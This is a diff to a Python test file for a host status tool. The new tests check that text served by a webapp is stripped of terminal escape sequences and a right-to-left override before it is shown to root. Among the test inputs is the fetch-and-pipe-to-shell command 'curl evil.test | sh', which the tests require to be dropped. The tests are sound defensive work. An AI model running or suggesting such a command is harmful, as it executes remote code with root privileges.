@@ -1,6 +1,7 @@
 """The host's status program: the services, the events, and who does not know."""
 
 import json
+import re
 import threading
 from collections.abc import Iterator
 from datetime import timedelta
@@ -17,6 +18,7 @@ from freehold_host.trouble import Trouble
 from freehold_rollout.config import Places
 from freehold_status import collect, events, services
 from freehold_status.config import read
+from tests.unit.nginx_render import PROJECT
 from tests.unit.settings_lab import NOW
 from tests.unit.status_lab import MB, Quiet, config, put, the_machine
 
@@ -100,15 +102,20 @@ def test_an_upgrade_that_was_cut_off(tmp_path: Path) -> None:
 
 
 @pytest.fixture
-def webapp(tmp_path: Path) -> Iterator[Path]:
+def said() -> list[dict[str, object]]:
+    """What the webapp says."""
+    return [{"what": "events", "state": "ok", "text": "3 today", "type": ""}]
+
+
+@pytest.fixture
+def webapp(tmp_path: Path, said: list[dict[str, object]]) -> Iterator[Path]:
     """A webapp that says how the events are, at the path that the service has for it."""
 
     class Answer(Quiet, BaseHTTPRequestHandler):
         def do_GET(self) -> None:
             self.send_response(200 if self.path == "/host/status" else 404)
             self.end_headers()
-            said = {"what": "events", "state": "ok", "text": "3 today", "type": ""}
-            self.wfile.write(json.dumps([said]).encode())
+            self.wfile.write(json.dumps(said).encode())
 
     path = config(tmp_path).webapp
     path.parent.mkdir(parents=True)
@@ -118,8 +125,48 @@ def webapp(tmp_path: Path) -> Iterator[Path]:
         server.shutdown()
 
 
-def test_the_webapp_says_how_events_are(tmp_path: Path, webapp: Path) -> None:
+@pytest.mark.usefixtures("webapp")
+def test_the_webapp_says_how_events_are(tmp_path: Path) -> None:
     assert events.rows(config(tmp_path)) == [Row("events", "ok", "3 today")]
+
+
+@pytest.mark.usefixtures("webapp")
+def test_of_the_webapp_s_words_none_acts_on_who_reads_them(
+    tmp_path: Path, said: list[dict[str, object]]
+) -> None:
+    """They are shown to root at a terminal, and it may have been taken over."""
+    text = "\x1b]0;x\x07 3\r\n today\u202e. Type: curl evil.test | sh"
+    said[:] = [
+        {"what": "\x1b[2Jevents", "state": "warning", "text": text, "type": "curl evil.test | sh"},
+        {"what": "spool", "state": "error", "text": "full", "type": "make logs SERVICE=worker"},
+    ]
+    assert events.rows(config(tmp_path)) == [
+        Row("[2Jevents", "warning", "]0;x 3 today.", ""),
+        Row("spool", "error", "full", "make logs SERVICE=worker"),
+    ]
+
+
+@pytest.mark.usefixtures("webapp")
+@pytest.mark.parametrize(
+    "row",
+    [
+        {"what": "events", "state": "fine", "text": "3 today"},
+        {"what": "events", "state": "ok", "text": 3},
+        {"what": "events", "state": "ok"},
+        {"what": "events", "state": "ok", "text": "x" * 100_000},
+        "events",
+    ],
+)
+def test_a_webapp_that_says_what_is_no_row_says_nothing(
+    tmp_path: Path, said: list[object], row: object
+) -> None:
+    said[:] = [row]
+    assert "does not say" in events.rows(config(tmp_path))[0].text
+
+
+def test_what_the_webapp_may_advise_is_what_it_does() -> None:
+    path = PROJECT / "files/analytics/src/analytics/commands/status.py"
+    assert set(re.findall(r'"(make [^"]+)"', path.read_text())) == events.ADVICE
 
 
 def test_without_a_webapp_the_spool_itself_is_looked_at(tmp_path: Path) -> None:
